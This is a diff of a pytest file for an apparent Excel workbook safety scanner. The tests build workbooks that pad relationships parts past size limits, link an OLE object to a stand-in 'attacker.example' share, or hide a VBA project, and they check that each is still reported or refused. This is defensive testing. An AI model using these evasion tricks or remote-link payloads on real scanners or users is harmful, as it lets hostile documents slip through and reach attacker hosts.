@@ -375,15 +375,83 @@ def test_a_link_target_is_shown_as_plain_text_cut_to_100_characters(tmp_path):
     assert "'https://example.org/<b>?" + "x" * 76 + "…'" in message and "\n" not in message
 
 
-def test_a_link_whose_relationships_are_too_large_to_read_is_still_reported(tmp_path):
+def _padded(xml: bytes, before: bytes, size: int) -> bytes:
+    """`xml` with comments of text that does not compress (a part must stay under 200:1) put before `before`,
+    to about `size` bytes."""
+    import base64
+
+    rng = random.Random(11)
+    pad = b"".join(b"<!--" + base64.b64encode(rng.randbytes(3000)) + b"-->" for _ in range(size // 4007 + 1))
+    return xml.replace(before, pad + before, 1)
+
+
+def test_a_link_whose_relationships_are_padded_past_a_mebibyte_is_still_named(tmp_path):
     from tests.hostile import rezip
 
     parts = _external_link("xl/externalLinks/externalLink1.xml", r"\\srv\share\Budget.xlsx")
     rels = "xl/externalLinks/_rels/externalLink1.xml.rels"
-    parts[rels] = parts[rels].replace(b"<Relationship ", b"<!-- " + b"padding > " * 120_000 + b"--><Relationship ")
-    data = rezip(valid_bytes(tmp_path), add=parts, compression=zipfile.ZIP_STORED)  # no zip-bomb ratio
-    _, [message] = _wb010(tmp_path, data)
-    assert message.startswith("The workbook links to an external file that the link part does not name (part ")
+    parts[rels] = _padded(parts[rels], b"<Relationship ", 1_200_000)
+    _, [message] = _wb010(tmp_path, rezip(valid_bytes(tmp_path), add=parts))
+    assert message.startswith("The workbook links to the external file '\\\\srv\\share\\Budget.xlsx' (part ")
+
+
+def test_a_linked_ole_object_in_a_relationships_part_padded_past_a_mebibyte_is_still_found(tmp_path):
+    """Found by a fresh attack: relationships parts over 1 MiB were skipped when looking for linked objects, so a
+    sheet's OLE object linked to a file on another server was assessed clean."""
+    parts = _sheet_relationships(OLE_REL, r"file:///\\attacker.example\share\payload.doc")
+    parts = {name: _padded(xml, b"<Relationship ", 1_200_000) for name, xml in parts.items()}
+    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), parts))
+    assert messages == ["The workbook links an OLE object to the external file "
+                        "'file:///\\\\attacker.example\\share\\payload.doc' (part "
+                        "xl/worksheets/_rels/sheet2.xml.rels): opening the original may make it reach that file."]
+
+
+def test_a_vba_project_named_by_a_relationships_part_padded_past_a_mebibyte_is_wb002(tmp_path):
+    from tests.hostile import rezip, vba_project_elsewhere
+
+    data = vba_project_elsewhere(valid_bytes(tmp_path), "xl/code.bin", relationship=True, content_type=False)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        rels = z.read("xl/_rels/workbook.xml.rels")
+    data = rezip(data, replace={"xl/_rels/workbook.xml.rels": _padded(rels, b"</Relationships>", 1_200_000)})
+    findings = _refused(tmp_path, data)
+    assert [f.rule_id for f in findings] == ["WB002"] and "part xl/code.bin" in findings[0].message
+
+
+@pytest.mark.parametrize("part", ["[Content_Types].xml", "xl/worksheets/_rels/sheet1.xml.rels"])
+def test_a_part_that_names_what_the_package_holds_too_large_to_read_is_wb003(tmp_path, part):
+    """Found by a fresh attack: a content types part over 10 MiB was read as declaring nothing, so an external
+    link, an OLE object or a VBA project kept outside its usual folder went unreported; a relationships part
+    as large was never read for the links and macros it names."""
+    from tests.hostile import rezip
+
+    data = valid_bytes(tmp_path)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        held = part in z.namelist()
+        xml = z.read(part) if held else f'<Relationships xmlns="{PKG_RELS_NS}"></Relationships>'.encode()
+    large = _padded(xml, b"</Types>" if part.startswith("[") else b"</Relationships>", 10_600_000)
+    findings = _refused(tmp_path, rezip(data, replace={part: large}) if held else rezip(data, add={part: large}))
+    assert [f.rule_id for f in findings] == ["WB003"]
+    assert f"Part {part} is " in findings[0].message and "over the safety limit for its kind" in findings[0].message
+
+
+@pytest.mark.parametrize("part", ["[Content_Types].xml", "xl/worksheets/_rels/sheet2.xml.rels"])
+def test_a_part_that_names_what_the_package_holds_and_is_not_well_formed_is_wb001(tmp_path, part):
+    """What a content types or relationships part declares decides WB002 and WB010; one that cannot be parsed
+    would hide what it names, so it is refused as corrupt, as Excel refuses it."""
+    from tests.hostile import rezip
+
+    data = valid_bytes(tmp_path)
+    broken = (f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId7" Type="{OLE_REL}" '
+              'Target="\\\\srv\\x.doc" TargetMode="External"></Relationships>').encode()
+    if part.startswith("["):
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            broken = z.read(part).replace(b"</Types>", b"<Override PartName='/xl/links/l1.xml'></Types>")
+        data = rezip(data, replace={part: broken})
+    else:
+        data = rezip(data, add={part: broken})
+    findings = _refused(tmp_path, data)
+    assert [f.rule_id for f in findings] == ["WB001"]
+    assert f"its XML part {part} is not well-formed XML" in findings[0].message
 
 
 @pytest.mark.parametrize("part, content_type, shown", [
